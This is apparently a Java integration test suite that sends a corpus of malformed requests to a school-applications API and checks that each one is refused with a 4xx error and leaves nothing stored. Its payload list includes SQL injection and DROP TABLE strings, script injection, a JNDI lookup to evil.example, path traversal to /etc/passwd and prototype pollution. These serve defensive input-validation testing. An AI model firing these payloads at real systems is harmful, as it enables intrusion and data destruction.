package uk.mathshubs.applications;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.stream.Stream;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.quarkus.hibernate.orm.panache.Panache;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import uk.mathshubs.testsupport.TestTokens;

/**
 * A corpus of malformed requests, well over 200: broken JSON, wrong types, huge strings, control characters, SQL and
 * script injection in constrained fields, properties a caller may not set, wrong content types. Every one must be
 * refused with a 4xx problem+json, and none may leave anything behind.
 */
@QuarkusTest
class MalformedInputTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HUB = "CENTRAL";
    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE application; --",
            "1; SELECT pg_sleep(5)", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
            "javascript:alert(1)", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd", "%00", "\\u0000");
    private static final List<String> CONTROLS = List.of("\u0000", "\u0007", "\u001b[31m", "\u007f", "\u202e", "\u2066",
            "\ufeff", "line\nbreak", "tab\there");

    private static UUID group;
    private static String urn;

    /** Once, from the first test: RestAssured knows the application's port only once a test runs. */
    private static synchronized void openGroup() {
        if (group != null) {
            return;
        }
        group = WorkGroups.openGroup(HUB, 5);
        urn = Schools.urn();
        Schools.register(Schools.primary(urn));
    }

    private record Case(String name, String contentType, byte[] body) {
    }

    @TestFactory
    Stream<DynamicTest> everyMalformedApplicationIsRefusedAndNothingIsStored() {
        openGroup();
        List<Case> corpus = new ArrayList<>();
        brokenJson(corpus);
        wrongTypes(corpus);
        hugeStrings(corpus);
        controlCharacters(corpus);
        injections(corpus);
        forbiddenProperties(corpus);
        wrongContentTypes(corpus);
        assertThat(corpus).hasSizeGreaterThanOrEqualTo(200);
        System.out.printf("Malformed input corpus: %d malformed applications tried%n", corpus.size());
        Stream<DynamicTest> refused = corpus.stream().map(c -> DynamicTest.dynamicTest(c.name(), () -> {
            long before = applications();
            Response response = given().config(AS_SENT).auth().oauth2(TestTokens.hubWebsite(HUB))
                    .contentType(c.contentType()).body(c.body())
                    .post("/api/v1/work-groups/{id}/applications", group);
            assertThat(response.statusCode()).as(c.name()).isBetween(400, 499);
            assertThat(response.contentType()).as(c.name()).startsWith("application/problem+json");
            assertThat(response.jsonPath().getInt("status")).isEqualTo(response.statusCode());
            assertThat(applications()).as("nothing stored for " + c.name()).isEqualTo(before);
        }));
        // The control: the same form, unspoilt, is taken. Every refusal above was the spoilt part's doing.
        DynamicTest control = DynamicTest.dynamicTest("the unspoilt form is taken", () -> given().auth()
                .oauth2(TestTokens.hubWebsite(HUB)).contentType("application/json").body(ApplicationForms.valid(urn))
                .post("/api/v1/work-groups/{id}/applications", group).then().statusCode(201));
        return Stream.concat(refused, Stream.of(control));
    }

    /** Bodies go out byte for byte whatever the content type says, form and multipart types included. */
    private static final RestAssuredConfig AS_SENT = RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
            .encodeContentTypeAs("application/x-www-form-urlencoded", ContentType.TEXT)
            .encodeContentTypeAs("multipart/form-data", ContentType.TEXT));

    @TestFactory
    Stream<DynamicTest> otherEndpointsRefuseTheirMalformedInputToo() {
        openGroup();
        Map<String, String> bodies = new HashMap<>();
        bodies.put("eligibility check, URN with SQL", "{\"urn\": \"137001' OR 1=1 --\"}");
        bodies.put("eligibility check, declarations not an object", "{\"urn\": \"137001\", \"declarations\": [\"YES\"]}");
        bodies.put("eligibility check, unknown answer", "{\"urn\": \"137001\", \"declarations\": {\"q\": \"PERHAPS\"}}");
        bodies.put("eligibility check, control character in a question", "{\"urn\": \"137001\", \"declarations\": {\"q\\u0000\": \"YES\"}}");
        bodies.put("interest, email with script", "{\"urn\": \"137001\", \"schoolName\": \"A\", \"contactName\": \"B\", \"contactEmail\": \"<script>@x\"}");
        bodies.put("interest, bidi override in a name", "{\"urn\": \"137001\", \"schoolName\": \"A\\u202eB\", \"contactName\": \"B\", \"contactEmail\": \"b@school.example\"}");
        List<DynamicTest> tests = new ArrayList<>();
        bodies.forEach((name, body) -> tests.add(DynamicTest.dynamicTest(name, () -> {
            String path = name.startsWith("interest") ? "/api/v1/work-groups/{id}/interest" : "/api/v1/work-groups/{id}/eligibility-check";
            Response response = given().auth().oauth2(TestTokens.hubWebsite(HUB)).contentType("application/json")
                    .body(body).post(path, group);
            assertThat(response.statusCode()).as(name).isBetween(400, 499);
            assertThat(response.contentType()).startsWith("application/problem+json");
        })));
        tests.add(DynamicTest.dynamicTest("application reference with SQL", () -> given().auth().oauth2(TestTokens.programmeAdmin())
                .get("/api/v1/applications/{ref}", "MH-' OR 1=1 --").then().statusCode(404).contentType("application/problem+json")));
        tests.add(DynamicTest.dynamicTest("Work Group id that is not a UUID", () -> given().auth().oauth2(TestTokens.hubWebsite(HUB))
                .contentType("application/json").body(ApplicationForms.valid(urn))
                .post("/api/v1/work-groups/{id}/applications", "1 OR 1=1").then().statusCode(404).contentType("application/problem+json")));
        tests.add(DynamicTest.dynamicTest("school search with SQL", () -> given()
                .get("/api/v1/schools?name={name}", "x%' OR 1=1 --").then().statusCode(200)));
        return tests.stream();
    }

    // --- the corpus ---

    private static void brokenJson(List<Case> corpus) {
        String valid = json(ApplicationForms.valid(urn));
        List<String> broken = new ArrayList<>(List.of("", " ", "{", "}", "[", "]", "{}", "[]", "null", "true", "0", "-1",
                "\"an application\"", "{\"school\":}", "{\"school\": {}", "{'school': {}}", "{school: {}}",
                "{\"school\": {},}", "{\"a\":1}{\"b\":2}", "{\"school\": NaN}", "{\"school\": undefined}",
                "{\"school\": {\"urn\": 0x1F}}", "\u0000", "{\"school\":\"\\uZZZZ\"}", "[{}]", "{\"school\": [}",
                "{" + "\"a\":{".repeat(2000) + "}".repeat(2001)));
        broken.add(valid.substring(0, valid.length() / 2));
        broken.add(valid.substring(0, valid.length() - 1));
        broken.add(valid + "}");
        broken.add(valid + "garbage");
        broken.add(valid.replace(":", "="));
        broken.add(valid.replace("\"", "'"));
        broken.add("[" + valid + "]");
        broken.add(valid.replaceFirst("\\{", "{\"headteacherStatement\": \"x\","));
        for (int i = 0; i < broken.size(); i++) {
            corpus.add(new Case("broken JSON " + i, "application/json", broken.get(i).getBytes(StandardCharsets.UTF_8)));
        }
        corpus.add(new Case("invalid UTF-8", "application/json", new byte[] {'{', '"', 's', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}));
        corpus.add(new Case("Latin-1 body declared UTF-8", "application/json; charset=UTF-8",
                valid.replace("Wolverhampton", "Wolverhämpton").getBytes(StandardCharsets.ISO_8859_1)));
    }

    private static void wrongTypes(List<Case> corpus) {
        List<Object> wrong = List.of(1, -7, 3.14, true, false, List.of(), List.of("x"), Map.of(), Map.of("x", 1), "");
        for (String path : List.of("school", "headteacher", "mainContact", "leadTeachers", "headteacherStatement",
                "declarations", "school.urn", "school.name", "headteacher.email", "mainContact.trn", "leadTeachers.0",
                "leadTeachers.0.role", "leadTeachers.0.trn")) {
            for (Object value : wrong) {
                if (acceptable(path, value)) {
                    continue;
                }
                corpus.add(form("wrong type " + path + "=" + value, form -> set(form, path, value)));
            }
        }
        corpus.add(form("null school", form -> form.put("school", null)));
        corpus.add(form("null lead teacher", form -> set(form, "leadTeachers", java.util.Arrays.asList((Object) null))));
        corpus.add(form("unknown role", form -> set(form, "leadTeachers.0.role", "DEPUTY_HEAD")));
        corpus.add(form("lower-case role", form -> set(form, "leadTeachers.0.role", "lead_teacher_year_1")));
        corpus.add(form("declaration answer not YES or NO", form -> form.put("declarations", Map.of("q", "MAYBE"))));
    }

    /** Values that are not wrong for that field: an empty map of declarations, for one. */
    private static boolean acceptable(String path, Object value) {
        return path.equals("declarations") && value instanceof Map<?, ?> map && map.isEmpty();
    }

    private static void hugeStrings(List<Case> corpus) {
        String huge = "x".repeat(100_000);
        for (String path : List.of("school.urn", "school.name", "school.address", "school.telephone", "school.localAuthority",
                "headteacher.name", "headteacher.email", "mainContact.name", "mainContact.email", "mainContact.trn",
                "mainContact.schoolRoles", "leadTeachers.0.name", "leadTeachers.0.email", "leadTeachers.0.trn",
                "leadTeachers.0.schoolRoles", "headteacherStatement")) {
            corpus.add(form("huge " + path, form -> set(form, path, huge)));
        }
        corpus.add(form("251 words", form -> form.put("headteacherStatement", "word ".repeat(251))));
        corpus.add(form("21 lead teachers", form -> form.put("leadTeachers",
                java.util.Collections.nCopies(21, ApplicationForms.teacher("LEAD_TEACHER_YEAR_1", "Yusuf One", "2345678")))));
        corpus.add(form("huge declaration key", form -> form.put("declarations", Map.of("q".repeat(10_000), "YES"))));
    }

    private static void controlCharacters(List<Case> corpus) {
        for (String path : List.of("school.name", "school.address", "school.localAuthority", "headteacher.name",
                "mainContact.name", "mainContact.schoolRoles", "leadTeachers.0.name", "leadTeachers.0.schoolRoles")) {
            for (String control : CONTROLS) {
                corpus.add(form("control " + JSON.valueToTree(control) + " in " + path,
                        form -> set(form, path, "Elston" + control + "Hall")));
            }
        }
        for (String control : List.of("\u0000", "\u0007", "\u202e", "\ufeff")) {
            corpus.add(form("control " + JSON.valueToTree(control) + " in headteacherStatement",
                    form -> form.put("headteacherStatement", "We want" + control + " number sense.")));
        }
    }

    private static void injections(List<Case> corpus) {
        for (String path : List.of("school.urn", "school.telephone", "headteacher.email", "mainContact.email",
                "mainContact.trn", "leadTeachers.0.email", "leadTeachers.0.trn", "leadTeachers.0.role")) {
            for (String injection : INJECTIONS) {
                corpus.add(form("injection " + injection + " in " + path, form -> set(form, path, injection)));
            }
        }
    }

    private static void forbiddenProperties(List<Case> corpus) {
        Map<String, Object> notTheCallers = Map.of("status", "ACCEPTED", "waitingListPosition", 1, "hubCode", "SHAW",
                "workGroupId", UUID.randomUUID().toString(), "reference", "MH-AAAA-AAAA", "id", UUID.randomUUID().toString(),
                "eligibility", Map.of("outcome", "ELIGIBLE"), "priority", 0, "submittedAt", "2020-01-01T00:00:00Z",
                "secret", "x");
        notTheCallers.forEach((name, value) -> corpus.add(form("may not set " + name, form -> form.put(name, value))));
        corpus.add(form("unknown field in school", form -> set(form, "school.stateFunded", true)));
        corpus.add(form("unknown field in a lead teacher", form -> set(form, "leadTeachers.0.attended", true)));
        corpus.add(form("__proto__", form -> form.put("__proto__", Map.of("admin", true))));
    }

    private static void wrongContentTypes(List<Case> corpus) {
        byte[] valid = json(ApplicationForms.valid(urn)).getBytes(StandardCharsets.UTF_8);
        for (String type : List.of("text/plain", "application/xml", "text/xml", "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x", "text/csv", "application/octet-stream", "image/png", "text/html",
                "application/json-patch+json")) {
            corpus.add(new Case("content type " + type, type, valid));
        }
    }

    // --- helpers ---

    private static Case form(String name, Consumer<Map<String, Object>> change) {
        Map<String, Object> form = deepCopy(ApplicationForms.valid(urn));
        change.accept(form);
        return new Case(name, "application/json", json(form).getBytes(StandardCharsets.UTF_8));
    }

    /** Sets a value at a dotted path; a number names a list element. */
    @SuppressWarnings("unchecked")
    private static void set(Map<String, Object> form, String path, Object value) {
        String[] parts = path.split("\\.");
        Object node = form;
        for (int i = 0; i < parts.length - 1; i++) {
            node = node instanceof List<?> list ? list.get(Integer.parseInt(parts[i])) : ((Map<String, Object>) node).get(parts[i]);
        }
        String last = parts[parts.length - 1];
        if (node instanceof List<?> list) {
            ((List<Object>) list).set(Integer.parseInt(last), value);
        } else {
            ((Map<String, Object>) node).put(last, value);
        }
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> deepCopy(Map<String, Object> form) {
        try {
            return JSON.readValue(JSON.writeValueAsBytes(form), Map.class);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static long applications() {
        return QuarkusTransaction.requiringNew().call(() -> ((Number) Panache.getEntityManager()
                .createNativeQuery("SELECT count(*) FROM application").getSingleResult()).longValue());
    }
}
